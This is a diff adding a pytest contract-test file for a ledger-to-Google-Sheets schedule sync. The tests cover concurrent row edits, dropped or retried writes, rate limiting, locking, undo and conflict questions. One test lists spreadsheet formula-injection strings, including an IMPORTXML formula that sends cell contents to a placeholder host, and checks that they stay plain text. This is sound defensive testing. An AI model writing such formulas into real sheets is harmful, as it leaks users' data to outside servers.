@@ -1,0 +1,211 @@
+"""People type while Kakari writes, Google is slow to answer, workers meet: nothing is lost."""
+
+import threading
+from datetime import timedelta
+
+import pytest
+
+from ledger import schedule, work
+from ledger.database import now
+from ledger.models import EffectState
+from simulator.faults import Fault
+from tasks.schedule import questions
+from tests.contract.schedule.office import Office
+from tests.contract.schedule.test_people_rearrange import filled
+from workspace.caller import Caller
+
+WRITE = "sheets.spreadsheets.batchUpdate"
+
+
+def inserted(office: Office) -> None:
+    """Insert a row above all others and type into it."""
+    row = {"sheetId": 0, "dimension": "ROWS", "startIndex": 1, "endIndex": 2}
+    office.request(insertDimension={"range": row})
+    office.put("B2", [["急ぎ", "新しい行", "", "2026/11/30"]])
+
+
+def deleted(office: Office) -> None:
+    row = {"sheetId": 0, "dimension": "ROWS", "startIndex": 1, "endIndex": 2}
+    office.request(deleteDimension={"range": row})
+
+
+def test_a_row_inserted_while_kakari_writes_is_noticed_and_put_back(office: Office) -> None:
+    filled(office)
+    office.change("P-3", state="完了", due="2027-01-04")
+    office.change("P-5", person="高橋")
+    before = office.rows()
+    office.meanwhile = lambda: inserted(office)
+    told = office.sync()
+    office.meanwhile = None
+    assert told.state == "failed"
+    assert told.failure
+    assert "What stood there was put back" in told.failure
+    assert office.rows() == before, "nobody else's row was changed"
+    assert office.cells()[1][1:3] == ["急ぎ", "新しい行"]
+    office.sync()
+    assert office.rows()["P-3"][3:6] == ["2027/01/04", "担当3", "完了"]
+    assert office.rows()["P-5"][4] == "高橋"
+
+
+def test_a_row_deleted_while_kakari_writes_is_noticed(office: Office) -> None:
+    filled(office)
+    office.change("P-3", state="完了")
+    before = office.rows()
+    office.meanwhile = lambda: deleted(office)
+    told = office.sync()
+    office.meanwhile = None
+    assert told.state == "failed"
+    assert office.rows() == {key: row for key, row in before.items() if key != "P-1"}
+    asks = office.sync()
+    assert office.rows()["P-3"][5] == "完了"
+    assert [question.text.split()[0] for question in asks.questions] == ["P-1"]
+
+
+def test_what_cannot_be_put_back_is_named(office: Office) -> None:
+    filled(office)
+    office.put("G3", [['=IF(E3>0,"済","")']])
+    office.sync()
+    office.change("P-3", state="完了")
+    office.meanwhile = lambda: inserted(office)
+    told = office.sync()
+    assert told.failure
+    assert "P-3" in told.failure
+    assert "row 4 could not be put back" in told.failure
+
+
+def test_what_was_typed_after_the_plan_is_not_overwritten(office: Office) -> None:
+    filled(office)
+    office.change("P-3", due="2027-01-04")
+    job = office.ask()
+    stop = threading.Event()
+    assert office.runner(stop).run_one(stop), "planned"
+    office.put("E4", [["2027/02/02"]])
+    office.work()
+    told = office.view(job)
+    assert told.failure
+    assert "P-3" in told.failure
+    assert office.rows()["P-3"][3] == "2027/02/02"
+    (question,) = office.sync().questions
+    assert "2027-02-02" in question.text
+    assert "2027-01-04" in question.text
+
+
+def test_a_formula_of_a_persons_own_is_left(office: Office) -> None:
+    filled(office)
+    office.put("H4", [["=H2*3"]])
+    office.change("P-3", amount="777")
+    office.sync()
+    assert office.cells(shown=False)[3][7] == "=H2*3"
+
+
+def test_what_a_person_typed_can_never_become_a_formula(office: Office) -> None:
+    nasty = ['=IMPORTXML("http://x/"&A1,"//a")', "+1+1", "@SUM(A1)", "'quoted", "-2+3"]
+    for n, text in enumerate(nasty):
+        office.project(f"P-{n}", name=text, customer=text)
+    office.sync()
+    assert [office.rows()[f"P-{n}"][1] for n in range(5)] == nasty
+    for n, text in enumerate(nasty):
+        office.change(f"P-{n}", customer=f"{text} 2", note=text)
+    office.sync()
+    assert [office.rows()[f"P-{n}"][0] for n in range(5)] == [f"{text} 2" for text in nasty]
+    assert office.sync().lines == ()
+
+
+def test_an_answer_that_was_lost_adds_no_row_twice(office: Office) -> None:
+    filled(office, 2)
+    office.project("P-9", name="新規")
+    office.change("P-1", state="完了")
+    office.simulator.world.faults.set([Fault(WRITE, "apply-then-drop", times=1)])
+    done = office.sync()
+    assert done.state == "done", done.failure
+    assert [row[0] for row in office.cells()].count("P-9") == 1
+    assert office.rows()["P-1"][5] == "完了"
+
+
+def test_a_write_that_never_arrived_is_sent_again(office: Office) -> None:
+    filled(office, 2)
+    office.project("P-9", name="新規")
+    office.simulator.world.faults.set([Fault(WRITE, "drop-before-apply", times=1)])
+    assert office.sync().state == "done"
+    assert "P-9" in office.rows()
+
+
+def test_one_sync_at_a_time_has_the_sheet(office: Office) -> None:
+    filled(office, 2)
+    with office.ledger.write() as tx:
+        assert schedule.alone(tx, office.spreadsheet, "another job", 60)
+    view = office.sync()
+    assert view.state == "planning"
+    assert view.waits_for
+    assert "being brought in step already" in view.waits_for
+    with office.ledger.write() as tx:
+        schedule.let_go(tx, office.spreadsheet, "another job")
+        assert schedule.alone(tx, office.spreadsheet, "a third", 60)
+
+
+@pytest.mark.parametrize("kind", ["429", "503"])
+def test_google_may_ask_to_slow_down(office: Office, kind: str) -> None:
+    filled(office, 2)
+    office.change("P-1", state="完了")
+    office.simulator.world.faults.set([Fault(WRITE, kind, times=2)])
+    assert office.sync().state == "done"
+    assert office.rows()["P-1"][5] == "完了"
+
+
+def test_a_sync_can_be_taken_back_and_what_was_edited_since_stays(office: Office) -> None:
+    filled(office, 3)
+    office.change("P-1", state="完了")
+    office.change("P-2", state="完了")
+    office.project("P-9", name="新規")
+    done = office.sync()
+    office.put("G3", [["保留"]])
+    undone = office.undo(done)
+    assert undone.state == "undone"
+    assert office.rows()["P-1"] == ["客先1", "金型1", "", "2026/12/01", "担当1", "", "1000"]
+    assert office.rows()["P-2"][5] == "保留"
+    assert "P-9" in office.rows()
+    assert [line.split(" – ")[0] for line in undone.left] == [
+        "📝 P-2 状態: 完了",
+        "📝 P-9 件名: 新規",
+    ]
+    with office.ledger.read() as tx:
+        states = {step.effect.key: step.state for step in work.steps(tx, done.job)}
+    assert states["row:P-1"] == EffectState.UNDONE
+
+
+def test_the_clock_asks_for_a_sync_once_and_only_where_there_is_something(office: Office) -> None:
+    filled(office, 3)
+    watch, later = office.watch(), now() + timedelta(minutes=6)
+    assert not watch.look(Caller(), later), "both sides agree"
+    office.calls()
+    assert not watch.look(Caller(), later), "it is not time yet"
+    assert office.calls() == []
+    office.put("G2", [["完了"]])
+    assert watch.look(Caller(), later + timedelta(minutes=6))
+    office.work()
+    assert office.known("P-1")["state"] == "完了"
+    assert not watch.look(Caller(), later + timedelta(minutes=12))
+    office.put("E2", [["年内"]])
+    assert watch.look(Caller(), later + timedelta(minutes=18)), "a cell that is not understood"
+    office.work()
+    assert not watch.look(Caller(), later + timedelta(minutes=24)), "was told once"
+
+
+def test_the_same_conflict_is_asked_about_again_when_it_comes_again(office: Office) -> None:
+    filled(office, 3)
+    watch, later = office.watch(), now()
+    for _ in range(2):
+        office.put("G2", [["完了"]])
+        office.change("P-1", state="保留")
+        later += timedelta(minutes=6)
+        assert watch.look(Caller(), later)
+        office.work()
+        with office.ledger.write() as tx:
+            (question,) = schedule.open_questions(tx)
+            questions.decide(tx, question.id, questions.LEDGER, "users/1", "spaces/A")
+        office.sync()
+        assert office.rows()["P-1"][5] == "保留"
+        office.put("G2", [[""]])
+        office.sync()
+        later += timedelta(minutes=6)
+        assert not watch.look(Caller(), later), "both sides agree"
